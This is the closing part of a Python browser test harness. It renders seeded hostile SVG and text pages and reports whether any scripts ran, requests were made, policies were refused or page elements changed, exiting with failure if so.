                    same = next((twins for twins in ("drawn", "jpeg", "none") if is_like(twins)), "drawn")
                    # Why it can't be drawn is said in words of another length.
                    found = judge.differences(seen, harmless(same, case % 4, said, kind), same != "none")
                    drawn, undrawn = drawn + (same != "none"), undrawn + (same == "none")
                for what in counts:
                    more = found if what == "looks" else seen[what]
                    counts[what] += len(more)
                    told += [f"{name} {kind}: {what}: {line}" for line in more[:3]]
        browser.close()
    for line in told[:60] + unmade[:10]:
        print(line, file=sys.stderr)
    pages = sum(len(pages) for name, pages in made.items() if name.startswith(("svg-", "text-")))
    print(f"pages: {options.count} hostile drawings and {options.count} hostile texts on {pages} pages, seed {options.seed}: "
          f"{drawn} pages drawn, {undrawn} say that the drawing can't be drawn, {len(unmade)} not made; {judge.looks} looks")
    print("pages: " + ", ".join(f"{count} {what}" for what, count in (
        ("scripts run", counts["scripts"]), ("requests made", counts["requests"]), ("refusals of the policy", counts["refused"]),
        ("leaves of the page", counts["gone"]), ("differences in our own elements", counts["looks"]))))
    return 1 if missed or any(counts.values()) or unmade or not pages else 0


if __name__ == "__main__":
    main()
